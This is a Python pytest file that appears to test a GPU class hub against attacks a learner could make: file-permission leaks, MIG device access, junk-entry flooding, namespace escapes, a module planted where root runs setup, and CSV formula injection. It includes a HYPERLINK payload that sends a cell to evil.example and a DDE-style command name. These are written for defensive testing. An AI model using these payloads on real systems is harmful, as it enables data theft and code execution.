"""Attacks on the class after its hardening (``scripts/class_hub.py``, ``scripts/class_collect.py``,
``jupyter/hub/server_limits.py``), each made the way a learner could make it: what ``grade`` leaves where a learner
can read it, which GPU nodes a learner's server may open when GPUs are shared as MIG instances, what one learner's
junk in the exchange costs every collect and how its names reach the report, a module planted where root runs
``setup``, and the server limits seen from a user namespace or through ``/proc``.

A test of an attack that still works fails until the defect is fixed; a test of an attack that is stopped guards
the defence. Learners and the instructor are uids without accounts (root may own files by, and run as, any uid;
``class_hub``'s account look-ups are answered for them), as in ``tests/test_class_attacks.py``: nothing is left
on the system.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from types import SimpleNamespace

import pytest

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "scripts"))
sys.path.insert(0, str(REPO / "jupyter" / "hub"))

from class_collect import collect  # noqa: E402
from server_limits import NVIDIA_MAJOR, Limits, preexec, server_group  # noqa: E402

from tests.class_entries import ASSIGNMENTS, LEARNERS_PYTHON, LESSON, NOTEBOOK, NOTEBOOK_NAME, ROSTER  # noqa: E402
from tests.class_entries import become as _as  # noqa: E402
from tests.class_entries import entry as _entry  # noqa: E402

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="files of several uids and control groups need root")


def _json_from(code: str, *args: str, preexec_fn) -> dict:
    """What ``code`` (run with ``LEARNERS_PYTHON``, from ``/``, as ``preexec_fn`` makes it) prints, as JSON."""
    done = subprocess.run(
        [LEARNERS_PYTHON, "-c", code, *args],
        preexec_fn=preexec_fn,
        env={"PATH": "/usr/bin:/bin"},
        cwd="/",
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


INSTRUCTOR = ("gpulab-test-instructor", 41100)


READER = """
import json, sys
seen = {}
for path in sys.argv[1:]:
    try:
        with open(path, "rb") as handle:
            seen[path] = handle.read(200).decode("utf-8", "replace")
    except OSError as error:
        seen[path] = error.strerror
print(json.dumps(seen))
"""


def _read_as(uid: int, paths: list[Path]) -> dict[str, str]:
    """What of ``paths`` the account ``uid`` can read (each file's first bytes, or why not)."""
    return _json_from(READER, *map(str, paths), preexec_fn=_as(uid))


# ------------------------------------------------------------------------------------------------ grading's files
GRADE_PY_STAND_IN = f"""#!/bin/sh
# called as: python grade.py STAGED --out OUT ...: writes what grade.py writes there (solutions, a feedback page)
out="$4"
mkdir -p "$out/source/{LESSON}" "$out/feedback/alice/{LESSON}"
echo '{{"cells": ["the solution"]}}' > "$out/source/{LESSON}/{NOTEBOOK_NAME}"
echo '<html>alice: 10/10</html>' > "$out/feedback/alice/{LESSON}/{LESSON}.html"
"""


def test_what_grade_writes_for_the_instructor_is_not_readable_by_another_learner(monkeypatch):
    """Reading every solution, another learner's work, grades and feedback secret in the instructor's course folder.

    ``class_hub.py grade`` runs as root with root's umask (022) and sets none, nor do ``as_account`` and ``run_as``:
    the collect child (dropped to the instructor) stages every learner's notebook in ``<course>/to-grade/<learner>/``
    with folders 755 and files 644; root makes ``<course>/grading/`` 755 and writes ``collect.csv`` 644 (every
    learner's entry name in it); grade.py, run as the instructor with the same umask, writes ``grading/source/``
    (the lessons with their solutions), ``gradebook.db``, ``grades.csv``, ``submitted/``, ``autograded/`` and every
    feedback page, 644; root copies each learner's ``submission_secret.txt`` into
    ``<course>/feedback/<learner>/<lesson>/`` 644. All of it is closed only by the folders above: ``setup`` makes
    the course folder 755 itself and closes only a home it creates (``ensure_user``). An instructor account that
    existed before ``setup`` keeps the home its system gave it: 755 with Debian's ``useradd`` (``UMASK 022``,
    ``HOME_MODE`` unset, as on this host) and on Ubuntu before 21.04; and ``--course-dir`` may be anywhere. Then
    any learner reads every solution, every other learner's notebook and grade, and another's submission secret,
    which names that learner's feedback page in the exchange (``md5(secret, notebook)``.html, 644), and whose entry
    name (in ``collect.csv``) opens that learner's entry in ``inbound/`` (nbgrader makes it 0777: whoever knows the
    name can add a file, making it late, or remove its notebook). Here the course folder is 755 as ``setup`` makes
    it in such a home, the real ``run_as`` runs a stand-in for grade.py as the instructor, and mallory reads alice's
    staged notebook, ``collect.csv``, alice's secret and the solution. Fix: ``grade`` (or ``as_account`` and
    ``run_as``) works under umask 077 and makes ``to-grade/``, ``grading/`` and ``feedback/`` 700; ``setup`` makes
    the course folder 700 and ``setup``/``grade`` refuse a course folder a learner can read, as for the clone."""
    import class_hub

    name, uid = INSTRUCTOR
    base = Path(tempfile.mkdtemp(prefix="gpulab-attack-", dir="/tmp"))
    previous_umask = os.umask(0o022)  # root's usual umask, which grade runs under
    try:
        os.chmod(base, 0o755)
        home = base / "home"  # the instructor's home as Debian's useradd made it: 755
        course = home / "gpulab"
        course.mkdir(parents=True)  # as setup makes it (root, umask 022), then the instructor's
        for folder in (home, course):
            os.chmod(folder, 0o755)
            os.chown(folder, uid, uid)
        exchange = base / "exchange"
        inbound = exchange / "gpulab" / "inbound"
        inbound.mkdir(parents=True)
        os.chmod(exchange, 0o1777)
        os.chown(inbound.parent, uid, uid)
        os.chown(inbound, uid, uid)
        os.chmod(inbound, 0o3733)
        alice = _entry(inbound, f"alice+{LESSON}+t+a", "alice", {NOTEBOOK_NAME: NOTEBOOK.replace("{", '{"a": 1, ', 1)})
        alice_secret = (alice / "submission_secret.txt").read_text()
        prefix = base / "prefix"
        prefix.mkdir()
        settings = {
            "instructor": name,
            "course_dir": str(course),
            "exchange": str(exchange),
            "course_id": "gpulab",
            "learners": ["alice", "mallory"],
            "env": str(base / "env"),
        }
        (prefix / "class.json").write_text(json.dumps(settings))
        # the course environment's "python", standing for grade.py (run by the real run_as, as the instructor): it
        # leaves what grade.py leaves in its --out, with the modes grade.py's own writes get
        python = base / "env" / "bin" / "python"
        python.parent.mkdir(parents=True)
        python.write_text(GRADE_PY_STAND_IN)
        os.chmod(python, 0o755)
        for folder in (base / "env", python.parent):
            os.chmod(folder, 0o755)

        accounts = {
            name: SimpleNamespace(pw_name=name, pw_uid=uid, pw_gid=uid, pw_dir=str(home)),
            **{
                learner: SimpleNamespace(pw_name=learner, pw_uid=number, pw_gid=number, pw_dir=f"/home/{learner}")
                for learner, number in ROSTER.items()
            },
        }

        def getpwnam(user: str):
            if user not in accounts:
                raise KeyError(user)
            return accounts[user]

        monkeypatch.setattr(class_hub, "pwd", SimpleNamespace(getpwnam=getpwnam))
        monkeypatch.setattr(class_hub, "grading_kit", lambda settings: base / "kit")
        monkeypatch.setattr(class_hub, "delegated_group", lambda settings, user: None)
        monkeypatch.setattr(class_hub, "as_instructor", lambda settings, *args: None)
        args = SimpleNamespace(prefix=str(prefix), assignment=LESSON, due=None, workers=1, slurm=False)
        try:
            class_hub.grade(args)
        except SystemExit as refusal:  # a course folder open to learners, refused before anything is written
            assert str(course) in str(refusal), refusal
            return
        staged = course / "to-grade" / "alice" / LESSON / NOTEBOOK_NAME
        secret = course / "feedback" / "alice" / LESSON / "submission_secret.txt"
        report = course / "grading" / "collect.csv"
        solution = course / "grading" / "source" / LESSON / NOTEBOOK_NAME
        assert staged.is_file() and secret.read_text() == alice_secret and report.is_file() and solution.is_file()
        seen = _read_as(ROSTER["mallory"], [staged, report, secret, solution])
        readable = {path: text for path, text in seen.items() if text not in ("Permission denied",)}
        assert not readable, f"mallory reads what grade left for the instructor: {readable}"
    finally:
        os.umask(previous_umask)
        shutil.rmtree(base)


# ------------------------------------------------------------------------------------------------ GPUs in MIG mode
MIG_LISTING = """GPU 0: NVIDIA A100-SXM4-40GB (UUID: GPU-5d1e1a3c-0000-0000-0000-000000000000)
  MIG 3g.20gb     Device  0: (UUID: MIG-11111111-1111-1111-1111-111111111111)
  MIG 3g.20gb     Device  1: (UUID: MIG-22222222-2222-2222-2222-222222222222)
"""


CAPS_MAJOR = 237  # a stand-in for the driver's nvidia-caps major (dynamic, read from /proc/devices)
MIG_MINORS = """gpu0/gi1/access 12
gpu0/gi1/ci0/access 13
gpu0/gi2/access 21
gpu0/gi2/ci0/access 22
"""
INSTANCES = {  # as NVML names them: (GPU, GPU instance, compute instance)
    "MIG-11111111-1111-1111-1111-111111111111": (0, 1, 0),
    "MIG-22222222-2222-2222-2222-222222222222": (0, 2, 0),
}


def test_learners_on_mig_instances_of_one_gpu_are_not_given_the_same_device_rules(tmp_path, monkeypatch):
    """Using another learner's MIG instance: ``CUDA_VISIBLE_DEVICES=MIG-<their uuid>`` (``nvidia-smi -L`` lists
    every instance's UUID to anyone).

    On a GPU in MIG mode the hub gives each learner instances (``gpu_pairs.listed_devices``), and two learners may
    get two instances of the same GPU. Both may open the GPU's node ``/dev/nvidia0``; what lets CUDA into an
    instance is the driver's capability nodes (``/dev/nvidia-caps/nvidia-cap<N>``, a major of its own). The rules
    first knew GPUs only and allowed every other major, capabilities included, so each learner could run on the
    other's instance. Fixed: the capabilities' major is closed and each server may open only its own instances'
    ``access`` minors (``/proc/driver/nvidia-caps/mig-minors``). Here two learners, one instance each of one GPU, as
    the spawner plans them, the capability nodes and the NVML look-up simulated."""
    import server_limits
    from gpu_pairs import gpus_for, listed_devices

    devices = listed_devices(MIG_LISTING)
    assert [device.gpu for device in devices] == [0, 0]
    listing = tmp_path / "mig-minors"
    listing.write_text(MIG_MINORS)
    monkeypatch.setattr(server_limits, "nvidia_caps_major", lambda: CAPS_MAJOR)
    folder = Path(tempfile.mkdtemp(prefix="gpulab-caps-", dir="/tmp"))
    os.chmod(folder, 0o755)
    nodes = {minor: folder / f"nvidia-cap{minor}" for minor in (12, 13, 21, 22)}
    for minor, node in nodes.items():
        os.mknod(node, 0o666 | 0o020000, os.makedev(CAPS_MAJOR, minor))
    limits = Limits(memory=256 << 20, cpus=1, tasks=32, file_size=1 << 20)
    opened, groups = {}, []
    try:
        for index, learner in enumerate(("alice", "bob")):
            # as GpuPairSpawner.start plans it: the learner's devices, the GPUs they are on, their capabilities
            mine = [devices[i] for i in gpus_for(index, len(devices), 1)]
            gpus = sorted({device.gpu for device in mine})
            access = server_limits.mig_access(mine, resolve=lambda device: INSTANCES[device.name], listing=listing)
            group = server_group(f"gpulab-test-{secrets.token_hex(3)}", limits, gpus, 1, minors=[0], mig=access)
            groups.append(group)
            if group.devices is None:
                pytest.skip("no cgroup v1 devices controller")
            opened[learner] = _json_from(
                OPENER, *map(str, nodes.values()), preexec_fn=preexec(group, limits, _as(ROSTER[learner]))
            )
        # each opens its own instance's two capabilities (no driver here: ENXIO), and neither of the other's
        assert [opened["alice"][str(nodes[m])] for m in (12, 13, 21, 22)] == ["ENXIO", "ENXIO", "EPERM", "EPERM"]
        assert [opened["bob"][str(nodes[m])] for m in (12, 13, 21, 22)] == ["EPERM", "EPERM", "ENXIO", "ENXIO"]
    finally:
        for group in groups:
            group.remove()
        shutil.rmtree(folder)


OPENER = """
import errno, json, os, sys
seen = {}
for node in sys.argv[1:]:
    try:
        os.close(os.open(node, os.O_RDONLY))
        seen[node] = "opened"
    except OSError as error:
        seen[node] = errno.errorcode[error.errno]
print(json.dumps(seen))
"""


# ------------------------------------------------------------------------------------------------ collect: cost
def test_one_learners_junk_entries_do_not_flood_every_collect_and_report(inbound):
    """Flooding the instructor's collect and report with junk entries.

    ``MAX_ENTRIES`` bounds a learner's *valid* entries that collect looks at, but every entry that is refused on
    its name (not ``<learner>+<assignment>+<time>``), forged, not a folder, or made by an account not on the roster
    is a ``Finding`` of its own, whatever their number, for every lesson's collect. Each costs the learner one
    inode (an empty folder; no quota is set) and costs the grading a finding in the collect child, in the JSON
    passed back, in the parent's memory, a printed line and a line of ``collect.csv``: a million empty folders
    (a minute of ``mkdir``) make each grading carry about 120 MB of JSON and a million report lines, burying every
    other learner's findings; ten million take the parent gigabytes of memory. Here 3000 junk entries make 3000
    findings. Fix: bound the findings kept per learner (say ``MAX_ENTRIES``) and report the rest as one count
    ("and 2,900 more like it"), counting names without holding them."""
    _entry(inbound, f"alice+{LESSON}+t+a", "alice")
    for number in range(3000):
        junk = inbound / f"junk{number:05d}"
        junk.mkdir()
        os.lchown(junk, ROSTER["mallory"], ROSTER["mallory"])
    collected = collect(inbound, ROSTER, ASSIGNMENTS)
    assert sorted(collected.chosen) == ["alice"]
    from class_collect import MAX_ENTRIES

    of_mallory = [finding for finding in collected.findings if finding.learner == "mallory"]
    assert of_mallory, "the junk is reported"
    assert len(of_mallory) <= MAX_ENTRIES + 1, f"{len(of_mallory)} findings for one learner's junk"


# ------------------------------------------------------------------------------------------------ server limits
NAMESPACED = """
import ctypes, errno, json, os, sys
libc = ctypes.CDLL(None, use_errno=True)
seen = {}
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
uid, gid = os.getuid(), os.getgid()
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
    seen["unshare"] = errno.errorcode[ctypes.get_errno()]
else:
    seen["unshare"] = "done"
    with open("/proc/self/setgroups", "w") as handle:
        handle.write("deny")
    with open("/proc/self/uid_map", "w") as handle:
        handle.write(f"0 {uid} 1")
    with open("/proc/self/gid_map", "w") as handle:
        handle.write(f"0 {gid} 1")
for node in sys.argv[2:]:
    try:
        os.close(os.open(node, os.O_RDONLY))
        seen[node] = "opened"
    except OSError as error:
        seen[node] = errno.errorcode[error.errno]
made = os.path.join(sys.argv[1], "made")
try:
    os.mknod(made, 0o666 | 0o020000, os.makedev(195, 0))
    os.close(os.open(made, os.O_RDONLY))
    seen["mknod"] = "opened"
except OSError as error:
    seen["mknod"] = errno.errorcode[error.errno]
print(json.dumps(seen))
"""


def test_a_user_namespace_made_in_a_server_opens_no_denied_gpu():
    """Reaching another learner's GPU from a user namespace made in the learner's own server (this host lets any
    user make one): as "root" in it the learner makes a mount namespace, opens the other GPUs' nodes and makes a
    node of its own (``mknod`` 195:0). The ``devices`` rules are checked on every open, whatever the namespace, and
    ``mknod`` of a device needs the host's ``CAP_MKNOD``: every open is refused. Held: this guards it."""
    folder = Path(tempfile.mkdtemp(prefix="gpulab-nodes-", dir="/tmp"))
    limits = Limits(memory=256 << 20, cpus=1, tasks=32, file_size=1 << 20)
    group = server_group(f"gpulab-test-{secrets.token_hex(3)}", limits, allowed_gpus=[1], gpu_count=2, minors=[0, 1])
    try:
        if group.devices is None:
            pytest.skip("no cgroup v1 devices controller")
        os.chmod(folder, 0o755)
        node = folder / "nvidia0"
        os.mknod(node, 0o666 | 0o020000, os.makedev(NVIDIA_MAJOR, 0))
        scratch = folder / "scratch"
        scratch.mkdir()
        os.chown(scratch, ROSTER["mallory"], ROSTER["mallory"])
        seen = _json_from(
            NAMESPACED, str(scratch), str(node), preexec_fn=preexec(group, limits, _as(ROSTER["mallory"]))
        )
        assert seen[str(node)] == "EPERM", seen
        assert seen["mknod"] in ("EPERM", "EACCES"), seen
    finally:
        group.remove()
        shutil.rmtree(folder)


# ------------------------------------------------------------------------------------------------ setup, as root
def test_setups_own_python_runs_take_no_module_from_the_folder_root_runs_it_in(monkeypatch):
    """Running code as root through a module planted where ``setup`` is run.

    ``setup`` runs as root, in whatever folder the admin typed it in (nothing changes the folder first; ``start``
    does), and runs the course environment's Python there: ``editable_from_repository`` (``python -c "import
    gpulab, ..."``), ``shared_env``'s probe (``python -c "import torch, gpulab, ..."``), ``python -m pip install``
    and the kernel's ``python -m ipykernel install``. ``-c`` and ``-m`` put the current folder first on
    ``sys.path``, so a ``gpulab.py`` (or ``torch.py``, ``pip/``) a learner left in that folder runs as root, e.g.
    when the class file was saved in ``/tmp`` and setup typed there (``runs_as``, run as the instructor, starts from
    ``/`` already). Here mallory's ``gpulab.py`` in a folder of hers, root's current folder. Fix: run every child
    Python of ``setup`` with ``cwd="/"`` (or ``-I``/``-P``, or ``os.chdir("/")`` at the start of ``setup``)."""
    import class_hub

    folder = Path(tempfile.mkdtemp(prefix="gpulab-cwd-", dir="/tmp"))
    marker = folder / "ran-as-root"
    try:
        (folder / "gpulab.py").write_text(
            f"import os\nopen({str(marker)!r}, 'w').write(str(os.getuid()))\n__file__ = {str(REPO / 'x.py')!r}\n"
        )
        for path in (folder / "gpulab.py", folder):
            os.lchown(path, ROSTER["mallory"], ROSTER["mallory"])
        os.chmod(folder, 0o755)
        monkeypatch.chdir(folder)
        class_hub.editable_from_repository(Path(sys.executable))
        assert not marker.exists(), f"mallory's gpulab.py ran as uid {marker.read_text()}"
    finally:
        shutil.rmtree(folder)


# ------------------------------------------------------------------------------------------------ the report
def test_collect_csv_has_no_cell_a_spreadsheet_would_run_as_a_formula(inbound, tmp_path):
    """Formula injection into ``grading/collect.csv``, the report the instructor opens beside ``grades.csv``.

    Names are shown with ``ascii()`` (no line break or escape reaches the report), but a name may start with ``=``,
    ``+``, ``-`` or ``@``: an entry not named ``<learner>+<assignment>+<time>`` is reported under its whole name,
    a skipped notebook under its own name first in the reason, so mallory's entry ``=HYPERLINK(...)`` or notebook
    ``@SUM(...).ipynb`` becomes a cell that LibreOffice or Excel evaluates when the instructor opens the file (a link
    that sends the sheet's other cells away, a DDE call where the office suite allows one). Fix: write every cell
    that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return behind a ``'`` (OWASP's CSV injection
    advice), or start every reported name with a fixed prefix."""
    from class_hub import report_findings

    _entry(inbound, f"alice+{LESSON}+t+a", "alice")
    formula = '=HYPERLINK(CONCAT("http:",CHAR(47),CHAR(47),"evil.example",CHAR(47),B3),"open")'
    odd = inbound / formula
    odd.mkdir()
    os.lchown(odd, ROSTER["mallory"], ROSTER["mallory"])
    linked = _entry(inbound, f"mallory+{LESSON}+t+m", "mallory", {})
    (linked / '@SUM(1+1)*cmd|"-c calc"!A0.ipynb').symlink_to("/etc/hostname")  # skipped: its name starts the reason
    os.lchown(linked / '@SUM(1+1)*cmd|"-c calc"!A0.ipynb', ROSTER["mallory"], ROSTER["mallory"])
    collected = collect(inbound, ROSTER, ASSIGNMENTS)
    report_findings([finding.__dict__ for finding in collected.findings], tmp_path, list(ROSTER))
    import csv

    with open(tmp_path / "collect.csv", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells) and any("@SUM" in cell for cell in cells)  # both reported
    formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not formulas, f"cells a spreadsheet evaluates: {formulas}"


THROUGH_PROC = """
import errno, json, os, sys
seen = {}
for path in sys.argv[1:]:
    try:
        seen[path] = sorted(os.listdir(path))[:3]
    except OSError as error:
        seen[path] = errno.errorcode[error.errno]
print(json.dumps(seen))
"""


def test_a_server_reaches_no_other_mount_namespace_through_proc():
    """Reaching the host's ``/dev/shm`` (and its memory the server's limit does not count), or another learner's
    private one, through ``/proc/<pid>/root`` of a process in another mount namespace: the hub's (pid 1, root's) or
    another learner's server. Following ``/proc/<pid>/root`` needs the right to trace that process: another uid's,
    or root's, is refused. Held: this guards it."""
    limits = Limits(memory=256 << 20, cpus=1, tasks=32, file_size=1 << 20)
    groups = [server_group(f"gpulab-test-{secrets.token_hex(3)}", limits, [0], 1, minors=[0]) for _ in range(2)]
    alice = None
    try:
        alice = subprocess.Popen(
            [LEARNERS_PYTHON, "-c", "import time; time.sleep(30)"],
            preexec_fn=preexec(groups[0], limits, _as(ROSTER["alice"])),
            env={"PATH": "/usr/bin:/bin"},
            cwd="/",
        )
        paths = [f"/proc/{alice.pid}/root/dev/shm", "/proc/1/root/dev/shm", f"/proc/{os.getpid()}/root/dev/shm"]
        seen = _json_from(THROUGH_PROC, *paths, preexec_fn=preexec(groups[1], limits, _as(ROSTER["mallory"])))
        assert all(result in ("EACCES", "EPERM") for result in seen.values()), seen
    finally:
        if alice is not None:
            alice.kill()
            alice.wait()
        for group in groups:
            group.remove()
